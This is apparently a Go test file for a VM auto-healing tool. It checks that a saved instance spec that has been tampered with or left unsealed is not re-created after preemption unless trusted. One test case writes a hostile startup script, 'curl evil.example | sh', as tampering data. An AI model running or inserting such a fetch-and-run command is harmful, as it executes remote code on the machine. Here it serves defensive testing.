package computevm_test

import (
	"strings"
	"testing"

	compute "google.golang.org/api/compute/v1"

	"github.com/tpu-autoheal/autoheal/internal/computevm"
	"github.com/tpu-autoheal/autoheal/internal/remediate"
)

// lastRecord is the newest record about key.
func (e *env) lastRecord(key string) remediate.Record {
	e.t.Helper()
	var r remediate.Record
	for _, x := range e.out.recs {
		if x.Node == key {
			r = x
		}
	}
	return r
}

func TestATamperedSavedSpecIsNeverInserted(t *testing.T) {
	for _, tc := range []struct {
		name   string
		tamper func(*compute.Instance)
	}{
		{"service account changed", func(in *compute.Instance) {
			in.ServiceAccounts[0].Email = "owner@acme-ml.iam.gserviceaccount.com"
		}},
		{"startup script changed", func(in *compute.Instance) {
			for _, it := range in.Metadata.Items {
				if it.Key == "startup-script" {
					v := "curl evil.example | sh"
					it.Value = &v
				}
			}
		}},
		{"seal of another spec kept, spec unchanged but its seen time moved", nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := newEnv(t)
			vm := name("spot-delete")
			e.sweep(vm) // saves its spec, sealed
			store := e.rec.Store.(*computevm.Memory)
			if tc.tamper != nil {
				if !store.Tamper(vm, tc.tamper) {
					t.Fatal("no saved spec to tamper with")
				}
			} else if !store.TamperSeen(vm, -24*60*60e9) {
				t.Fatal("no saved spec to tamper with")
			}
			entry, err := e.fake.Preempt(vm)
			if err != nil {
				t.Fatal(err)
			}
			if got := e.deliver(entry); got != remediate.ActionSkip {
				t.Errorf("preempted, its saved spec tampered with: %s, want skip", got)
			}
			if got := e.calls("instances.insert"); got != 0 {
				t.Errorf("%d inserts from a tampered spec, want 0", got)
			}
			r := e.lastRecord(vm)
			if r.Err == "" || !strings.Contains(r.Reason, "tampered with") || !strings.Contains(r.Reason, "not inserted") {
				t.Errorf("record = action %s, reason %q, err %q: want an ERROR record saying the spec was tampered with", r.Action, r.Reason, r.Err)
			}
		})
	}
}

func TestAnUnsealedSavedSpecIsInsertedOnlyWhenTrusted(t *testing.T) {
	for _, trust := range []bool{false, true} {
		e := newEnv(t)
		sealer := e.rec.Sealer
		e.rec.Sealer = nil // saved by a version before seals
		vm := name("spot-delete")
		e.sweep(vm)
		e.rec.Sealer, e.rec.TrustUnsealedSpecs = sealer, trust
		entry, err := e.fake.Preempt(vm)
		if err != nil {
			t.Fatal(err)
		}
		got := e.deliver(entry)
		r := e.lastRecord(vm)
		switch {
		case !trust && (got != remediate.ActionSkip || e.calls("instances.insert") != 0 || r.Err == ""):
			t.Errorf("unsealed, not trusted: %s with %d inserts, err %q; want skip, none, an ERROR record", got, e.calls("instances.insert"), r.Err)
		case trust && (got != "recreate" || e.calls("instances.insert") != 1 || len(r.Warnings) == 0):
			t.Errorf("unsealed, trusted: %s with %d inserts, warnings %v; want recreate, 1, a warning", got, e.calls("instances.insert"), r.Warnings)
		}
	}
}

func TestTheFirstSweepWithASealerSealsTheSpecOfARunningVM(t *testing.T) {
	e := newEnv(t)
	sealer := e.rec.Sealer
	e.rec.Sealer = nil
	vm := name("spot-delete")
	e.sweep(vm) // unsealed
	e.rec.Sealer = sealer
	e.sweep(vm) // still RUNNING: sealed now
	entry, err := e.fake.Preempt(vm)
	if err != nil {
		t.Fatal(err)
	}
	if got := e.deliver(entry); got != "recreate" || e.calls("instances.insert") != 1 {
		t.Errorf("preempted after a sweep sealed its spec: %s with %d inserts, want recreate and 1", got, e.calls("instances.insert"))
	}
}
